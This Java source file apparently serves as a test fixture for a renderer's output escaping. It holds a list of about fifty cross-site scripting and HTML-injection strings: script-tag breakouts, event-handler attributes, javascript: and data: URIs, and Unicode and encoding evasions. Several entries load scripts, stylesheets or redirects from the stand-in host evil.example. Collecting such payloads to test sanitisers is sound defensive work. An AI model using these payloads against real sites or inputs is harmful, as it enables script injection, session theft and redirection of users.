package dev.winnow.render;

import java.util.List;

/**
 * Texts that have become scripts, styles, requests or elements somewhere: by closing what they stand in, by breaking out
 * of an attribute, as addresses, and by what parsers and browsers make of odd characters. Each calls {@code alert} or
 * asks {@code evil.example} for something if it succeeds.
 */
final class HostileTexts {

    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "</p></li></ol><script>alert(2)</script>",
            "</script><script>alert(3)</script>",
            "</style><script>alert(4)</script>",
            "</title><script>alert(5)</script>",
            "</textarea><script>alert(6)</script>",
            "</template></noscript><script>alert(7)</script>",
            "--><script>alert(8)</script><!--",
            "<!--><img src=x onerror=alert(9)>-->",
            "]]><script>alert(10)</script><![CDATA[",
            "<img src=x onerror=alert(11)>",
            "<img src=\"https://evil.example/pixel.gif\">",
            "<svg onload=alert(12)>",
            "<svg><script>alert&#40;13&#41;</script></svg>",
            "<svg><animate onbegin=alert(14) attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src onerror=alert(15)></style></mglyph></table></mtext></math>",
            "<iframe src=\"javascript:alert(16)\"></iframe>",
            "<iframe srcdoc=\"<script>parent.alert(17)</script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert(18)</script>\"></object>",
            "<embed src=//evil.example/x.swf>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import url(//evil.example/y.css);*{display:none}</style>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<form action=//evil.example/><button autofocus onfocus=alert(19)>",
            "<input autofocus onfocus=alert(20)>",
            "<details open ontoggle=alert(21)>",
            "<video><source onerror=alert(22)></video>",
            "<body onload=alert(23)>",
            "<a href=\"javascript:alert(24)\">go</a>",
            "\" onmouseover=\"alert(25)\" autofocus onfocus=\"alert(26)\" x=\"",
            "' onclick='alert(27)' x='",
            "` onfocus=alert(28) autofocus `",
            "\"><img src=x onerror=alert(29)>",
            "javascript:alert(30)",
            "JaVaScRiPt\t:\nalert(31)",
            "\u0001javascript:alert(32)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgzMyk8L3NjcmlwdD4=",
            "vbscript:msgbox(34)",
            "https://evil.example/\" onclick=\"alert(35)",
            "https:javascript:alert(36)",
            "&lt;script&gt;alert(37)&lt;/script&gt;",
            "&#x3C;img src=x onerror=alert(38)&#x3E;",
            "<scr\u0000ipt>alert(39)</scr\u0000ipt>",
            "<\u00A0script>alert(40)</script>",
            "\uFF1Cscript\uFF1Ealert(41)\uFF1C/script\uFF1E",
            "+ADw-script+AD4-alert(42)+ADw-/script+AD4-",
            "\uD800<script>alert(43)</script>\uDC00",
            "\u2028alert(44)\u2029//",
            "{{constructor.constructor('alert(45)')()}} {{script}} {{lines}}",
            "${alert(46)} <%= alert(47) %>",
            "url(javascript:alert(48));background:url(//evil.example/z.png)",
            "\u202E>tpircs/<)94(trela>tpircs<");

    private HostileTexts() {}
}
